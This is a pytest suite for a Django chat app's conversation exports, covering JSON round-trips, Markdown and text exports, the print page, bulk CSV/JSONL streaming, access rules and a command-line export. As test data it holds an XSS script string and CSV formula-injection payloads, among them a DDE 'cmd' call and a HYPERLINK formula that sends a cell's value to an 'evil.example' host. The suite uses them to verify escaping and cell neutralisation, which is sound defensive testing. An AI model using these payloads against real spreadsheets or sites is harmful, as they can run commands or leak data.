"""Conversation exports (docs/export.md): formats, streaming bulk export, CSV safety, access."""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
from typing import Any

import pytest
from django.core.management import call_command

from accounts import roles
from chat import services
from chat.models import Conversation, Message
from personas.services import ensure_default_persona
from tests.accounts.support import Browser, make_user
from tests.factories import ConversationFactory, MessageFactory
from transcripts import exports

pytestmark = pytest.mark.django_db

CHINESE = "我的包裹在哪里？请尽快回复，谢谢！"
MARKDOWN = "**Tracking**\n\n- step one\n- step two\n\n```\ncode <b>bold</b>\n```"
SCRIPT = "<script>alert('x')</script> and <b>bold</b>"


def add(conversation: Conversation, seq: int, role: str, content: str, **fields: Any) -> Message:
    return MessageFactory.create(conversation=conversation, seq=seq, role=role, content=content, **fields)


def seeded(owner: Browser, title: str = "Parcel 包裹", status: str = Conversation.Status.OPEN) -> Conversation:
    persona = ensure_default_persona()
    conversation = ConversationFactory.create(actor=owner.actor, title=title, status=status)
    add(conversation, 1, Message.Role.USER, CHINESE)
    add(conversation, 2, Message.Role.ASSISTANT, MARKDOWN, model="qwen-test", persona=persona, finish_reason="stop",
        prompt_tokens=120, completion_tokens=40, ttft_ms=180, duration_ms=2100, superseded=True,
        persona_version=persona.active_version,
        sources=[{"title": "退货政策", "url": "/knowledge/article/7/", "source_id": 7}])
    add(conversation, 3, Message.Role.ASSISTANT, "Partial answ", status=Message.Status.STOPPED, model="qwen-test",
        persona=persona, finish_reason="stopped", completion_tokens=3)
    add(conversation, 4, Message.Role.ASSISTANT, "", status=Message.Status.FAILED, error_code="engine_unavailable",
        persona=persona)
    add(conversation, 5, Message.Role.USER, SCRIPT)
    return conversation


@pytest.fixture
def owner() -> Browser:
    return Browser.logged_in(make_user("owner@example.com"))


@pytest.fixture
def conversation(owner: Browser) -> Conversation:
    return seeded(owner)


@pytest.fixture
def agent() -> Browser:
    return Browser.logged_in(make_user("agent@example.com", role=roles.AGENT, mfa=True))


def body(response: Any) -> str:
    if response.streaming:
        return b"".join(response.streaming_content).decode("utf-8")
    return response.content.decode("utf-8")


# --- One conversation -----------------------------------------------------------------------------


def test_json_export_round_trips(owner: Browser, conversation: Conversation) -> None:
    response = owner.client.get(f"/c/{conversation.public_id}/export/json/")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="anyhour-{conversation.public_id}.json"'
    data = json.loads(response.content.decode("utf-8"))
    assert data["schema"] == "anyhour.conversation/v2"
    assert set(data["conversation"]) == {*exports.CONVERSATION_FIELDS, *exports.OPTIONAL_CONVERSATION_FIELDS}
    fields = {*exports.MESSAGE_FIELDS, *exports.OPTIONAL_MESSAGE_FIELDS}
    assert all(set(m) == fields for m in data["messages"])
    assert CHINESE.encode("utf-8") in response.content  # UTF-8, not \u escapes
    parsed = exports.conversation_from_dict(data)
    conversation.refresh_from_db()
    assert parsed.id == conversation.public_id and parsed.title == "Parcel 包裹" and parsed.status == "open"
    assert parsed.created_at == conversation.created_at and parsed.updated_at == conversation.updated_at
    assert parsed.persona == conversation.persona.slug
    saved = list(conversation.messages.order_by("seq"))
    assert len(parsed.messages) == len(saved) == 5
    for exported, message in zip(parsed.messages, saved, strict=True):
        assert exported.seq == message.seq
        assert exported.role == message.role
        assert exported.content == message.content
        assert exported.status == message.status
        assert exported.created_at == message.created_at
        assert exported.created_at.utcoffset() == dt.timedelta(0)
        assert exported.model == (message.model or None)
        assert exported.persona == (message.persona.slug if message.persona else None)
        assert exported.finish_reason == (message.finish_reason or None)
        assert exported.prompt_tokens == message.prompt_tokens
        assert exported.completion_tokens == message.completion_tokens
        assert exported.ttft_ms == message.ttft_ms
        assert exported.duration_ms == message.duration_ms
        assert exported.error_code == (message.error_code or None)
        assert exported.superseded == message.superseded
        assert exported.persona_version == (message.persona_version.number if message.persona_version else None)
        assert exported.sources == tuple({"title": s["title"], "url": s["url"]} for s in message.sources)
    assert parsed.messages[1].persona_version == 1
    assert parsed.messages[1].sources == ({"title": "退货政策", "url": "/knowledge/article/7/"},)
    assert [m.status for m in parsed.messages][2:4] == ["stopped", "failed"]
    assert parsed.messages[3].error_code == "engine_unavailable"
    for stamp in [data["conversation"]["created_at"], *(m["created_at"] for m in data["messages"])]:
        assert stamp.endswith("+00:00")


def test_from_dict_rejects_other_schemas() -> None:
    with pytest.raises(ValueError):
        exports.conversation_from_dict({"schema": "anyhour.conversation/v3", "conversation": {}, "messages": []})
    with pytest.raises(ValueError):
        exports.conversation_from_dict({"schema": exports.SCHEMA, "conversation": {"id": "x"}, "messages": []})


@pytest.mark.parametrize(
    "fmt, content_type", [("md", "text/markdown; charset=utf-8"), ("txt", "text/plain; charset=utf-8")]
)
def test_markdown_and_text_exports(owner: Browser, conversation: Conversation, fmt: str, content_type: str) -> None:
    response = owner.client.get(f"/c/{conversation.public_id}/export/{fmt}/")
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"].startswith("attachment;")
    text = response.content.decode("utf-8")
    assert "Parcel 包裹" in text
    for content in (CHINESE, MARKDOWN, "Partial answ", SCRIPT):
        assert content in text
    assert "stopped" in text and "failed: engine_unavailable" in text and "superseded" in text
    assert "Customer" in text and "Assistant" in text


def test_unknown_format_is_404(owner: Browser, conversation: Conversation) -> None:
    assert owner.client.get(f"/c/{conversation.public_id}/export/pdf/").status_code == 404


def test_print_page_escapes_html_and_keeps_line_breaks(owner: Browser, conversation: Conversation) -> None:
    response = owner.client.get(f"/c/{conversation.public_id}/print/")
    assert response.status_code == 200
    html = response.content.decode("utf-8")
    assert "<script>" not in html and "<b>bold</b>" not in html
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in html
    assert "- step one\n- step two" in html  # Markdown as text, line breaks kept (pre-wrap)
    assert CHINESE in html
    assert 'href="/static/chat/print.' in html
    assert "Customer" in html and "Assistant" in html and "UTC" in html


# --- Access ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["export/json/", "export/md/", "export/txt/", "print/"])
def test_single_export_access(owner: Browser, conversation: Conversation, agent: Browser, path: str) -> None:
    url = f"/c/{conversation.public_id}/{path}"
    assert owner.client.get(url).status_code == 200
    assert agent.client.get(url).status_code == 200
    assert Browser.logged_in(make_user("other@example.com")).client.get(url).status_code == 404
    assert Browser.guest().client.get(url).status_code == 404
    assert owner.client.get(f"/c/nope-{conversation.public_id}/{path}").status_code == 404


def test_guest_exports_own_conversation() -> None:
    guest = Browser.guest()
    conversation = seeded(guest)
    response = guest.client.get(f"/c/{conversation.public_id}/export/json/")
    assert response.status_code == 200
    assert len(json.loads(response.content)["messages"]) == 5


def test_agent_without_mfa_is_sent_to_mfa_setup(conversation: Conversation) -> None:
    agent = Browser.logged_in(make_user("nomfa@example.com", role=roles.AGENT))
    response = agent.client.get(f"/c/{conversation.public_id}/export/json/")
    assert response.status_code == 302 and response["Location"].startswith("/accounts/2fa/")
    assert agent.client.get("/transcripts/export.csv").status_code == 302


def test_bulk_export_is_for_agents_and_admins(owner: Browser, conversation: Conversation, agent: Browser) -> None:
    assert owner.client.get("/transcripts/export.jsonl").status_code == 403
    assert owner.client.get("/transcripts/export.csv").status_code == 403
    assert Browser.guest().client.get("/transcripts/export.csv").status_code == 403
    assert agent.client.get("/transcripts/export.csv").status_code == 200
    admin = Browser.logged_in(make_user("admin@example.com", role=roles.ADMIN, mfa=True))
    assert admin.client.get("/transcripts/export.jsonl").status_code == 200
    assert agent.client.get("/transcripts/export.xml").status_code == 404


# --- Bulk -----------------------------------------------------------------------------------------


def test_bulk_jsonl_streams_all_messages(conversation: Conversation, agent: Browser) -> None:
    other = seeded(Browser.guest(), title="Second")
    response = agent.client.get("/transcripts/export.jsonl")
    assert response.status_code == 200
    assert response.streaming is True
    assert response["Content-Type"] == "application/x-ndjson; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="anyhour-transcripts-')
    rows = [json.loads(line) for line in body(response).splitlines()]
    assert len(rows) == 10
    assert [(r["conversation_id"], r["seq"]) for r in rows] == [
        *((conversation.public_id, seq) for seq in range(1, 6)), *((other.public_id, seq) for seq in range(1, 6))
    ]
    assert list(rows[0]) == list(exports.BULK_COLUMNS)
    assert rows[0]["content"] == CHINESE and rows[0]["conversation_title"] == "Parcel 包裹"
    assert rows[3]["status"] == "failed" and rows[3]["error_code"] == "engine_unavailable"
    assert all(r["created_at"].endswith("+00:00") for r in rows)


def test_bulk_filters(conversation: Conversation, agent: Browser) -> None:
    closed = seeded(Browser.guest(), title="Closed one", status=Conversation.Status.CLOSED)
    old = seeded(Browser.guest(), title="Old")
    old.messages.update(created_at=dt.datetime(2024, 3, 10, 23, 30, tzinfo=dt.UTC))

    def ids(query: str) -> set[str]:
        response = agent.client.get(f"/transcripts/export.jsonl?{query}")
        assert response.status_code == 200 and response.streaming
        return {json.loads(line)["conversation_id"] for line in body(response).splitlines()}

    assert ids("status=closed") == {closed.public_id}
    assert ids("status=open") == {conversation.public_id, old.public_id}
    assert ids("since=2024-03-10&until=2024-03-10") == {old.public_id}
    assert ids("until=2024-03-09") == set()
    assert ids("since=2024-03-11") == {conversation.public_id, closed.public_id}
    assert ids("since=2024-03-11&status=open") == {conversation.public_id}
    for bad in ("since=yesterday", "status=archived", "since=2024-03-12&until=2024-03-11"):
        assert agent.client.get(f"/transcripts/export.csv?{bad}").status_code == 400


def test_bulk_csv_is_quoted_and_safe_against_formulas(owner: Browser, agent: Browser) -> None:
    conversation = services.create_conversation(owner.actor)
    conversation.title = "=cmd|' /C calc'!A0"
    conversation.save()
    dangerous = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-1", "@SUM(A1:A9)", "\tTab", "\rCR"]
    for seq, text in enumerate(dangerous, start=1):
        add(conversation, seq, Message.Role.USER, text)
    add(conversation, 7, Message.Role.USER, 'Plain, "quoted"\nsecond line 第二行')
    response = agent.client.get("/transcripts/export.csv")
    assert response.status_code == 200 and response.streaming is True
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = body(response)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(exports.BULK_COLUMNS)
    data = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert [row["content"] for row in data] == ["'" + t for t in dangerous] + ['Plain, "quoted"\nsecond line 第二行']
    assert all(row["conversation_title"] == "'=cmd|' /C calc'!A0" for row in data)
    assert all(row["created_at"].endswith("+00:00") for row in data)
    assert data[0]["superseded"] == "false" and data[0]["prompt_tokens"] == ""
    # No cell of the file starts with a formula character.
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_safe_cell() -> None:
    assert exports.safe_cell("=1+1") == "'=1+1"
    assert exports.safe_cell("a=1") == "a=1"
    assert exports.safe_cell(-1) == "'-1"
    assert exports.safe_cell(None) == ""
    assert exports.safe_cell(True) == "true"


# --- The management command -----------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_command_writes_the_same_rows_as_the_view(
    conversation: Conversation, agent: Browser, tmp_path: Any, fmt: str
) -> None:
    seeded(Browser.guest(), title="Closed", status=Conversation.Status.CLOSED)
    view = body(agent.client.get(f"/transcripts/export.{fmt}?status=open&since=2000-01-01"))
    output = tmp_path / f"out.{fmt}"
    err = io.StringIO()
    call_command("export_transcripts", "--format", fmt, "--status", "open", "--since", "2000-01-01",
                 "--output", str(output), "--progress", stderr=err)
    assert output.read_bytes().decode("utf-8") == view
    assert "5/5 messages" in err.getvalue() and f"wrote 5 message(s) to {output}" in err.getvalue()
    out = io.StringIO()
    call_command("export_transcripts", "--format", fmt, "--status", "open", "--since", "2000-01-01", stdout=out,
                 stderr=io.StringIO())
    assert out.getvalue() == view


def test_command_rejects_bad_filters() -> None:
    from django.core.management.base import CommandError

    with pytest.raises(CommandError):
        call_command("export_transcripts", "--since", "not-a-date", stdout=io.StringIO())


@pytest.mark.django_db(transaction=True)
async def test_bulk_export_streams_lazily_under_asgi(owner: Browser) -> None:
    # Under ASGI a sync iterator would be read whole into a list; the view hands Django an
    # async iterator instead.
    from asgiref.sync import sync_to_async
    from django.test import AsyncClient

    conversation = await sync_to_async(seeded)(owner)
    agent = await sync_to_async(make_user)("agent.asgi@example.com", role=roles.AGENT, mfa=True)
    client = AsyncClient()
    await client.aforce_login(agent)
    response = await client.get("/transcripts/export.jsonl")
    assert response.status_code == 200 and response.streaming and response.is_async
    text = b"".join([chunk async for chunk in response.streaming_content]).decode("utf-8")
    assert [json.loads(line)["seq"] for line in text.splitlines()] == [1, 2, 3, 4, 5]
    assert json.loads(text.splitlines()[0])["conversation_id"] == conversation.public_id


def test_conversation_page_links_to_every_export_format(client):
    client.get("/")
    conversation_id = client.post("/c/new/").json()["id"]
    body = client.get(f"/c/{conversation_id}/").content.decode()
    for href in (f"/c/{conversation_id}/print/", *(f"/c/{conversation_id}/export/{fmt}/" for fmt in ("md", "txt", "json"))):
        assert f'href="{href}"' in body
    # No conversation yet: the menu is there for chat.js but hidden, and links nowhere.
    home = client.get("/").content.decode()
    assert 'id="export-menu" hidden' in home
    assert f"/c/{conversation_id}/export/" not in home and f"/c/{conversation_id}/print/" not in home
    assert 'data-export-template="/c/__id__/export/json/"' in home


def test_a_v1_file_from_before_versions_and_sources_still_parses(owner: Browser, conversation: Conversation) -> None:
    data = json.loads(owner.client.get(f"/c/{conversation.public_id}/export/json/").content)
    for message in data["messages"]:
        for name in exports.OPTIONAL_MESSAGE_FIELDS:
            del message[name]
    parsed = exports.conversation_from_dict(data)
    assert [(m.persona_version, m.sources) for m in parsed.messages] == [(None, ())] * 5


def test_v1_files_still_parse_and_v2_carries_handoff_and_ratings() -> None:
    from accounts import roles
    from chat import handoff, ratings
    from tests.factories import ConversationFactory, UserFactory, turn

    v1 = {
        "schema": "anyhour.conversation/v1",
        "conversation": {"id": "abc", "title": "Old", "status": "open", "created_at": "2026-01-02T03:04:05+00:00",
                         "updated_at": "2026-01-02T03:04:06+00:00", "persona": None},
        "messages": [{"seq": 1, "role": "user", "content": "hi", "status": "complete",
                      "created_at": "2026-01-02T03:04:05+00:00", "model": None, "persona": None,
                      "finish_reason": None, "prompt_tokens": None, "completion_tokens": None, "ttft_ms": None,
                      "duration_ms": None, "error_code": None, "superseded": False}],
    }
    old = exports.conversation_from_dict(v1)
    assert old.state is None and old.satisfaction is None and old.messages[0].rating is None

    conversation = ConversationFactory.create(title="Handed off")
    _, answer = turn(conversation, "Warranty?", "Two years.")
    ratings.rate_answer(conversation=conversation, seq=answer.seq, rating=-1, comment="vague")
    agent = UserFactory.create(role=roles.AGENT, mfa=True, first_name="Mei")
    handoff.claim(agent=agent, conversation=conversation)
    handoff.agent_reply(agent=agent, conversation=conversation, text="Two years for batteries too.")
    handoff.resolve(agent=agent, conversation=conversation)
    ratings.rate_conversation(conversation=conversation, score=4)
    conversation.refresh_from_db()
    messages = list(conversation.messages.order_by("seq"))
    parsed = exports.conversation_from_dict(json.loads(exports.to_json(conversation, messages)))
    assert (parsed.state, parsed.handled_by, parsed.satisfaction) == ("resolved", "agent", 4)
    assert parsed.first_human_response_at == conversation.first_human_response_at
    assert parsed.resolved_at == conversation.resolved_at
    assert [(m.role, m.author, m.rating, m.rating_comment) for m in parsed.messages] == [
        ("user", None, None, ""), ("assistant", None, -1, "vague"), ("agent", "Mei", None, ""),
    ]
    markdown = exports.to_markdown(conversation, messages)
    assert "rated not helpful: vague" in markdown and "agent: Mei" in markdown
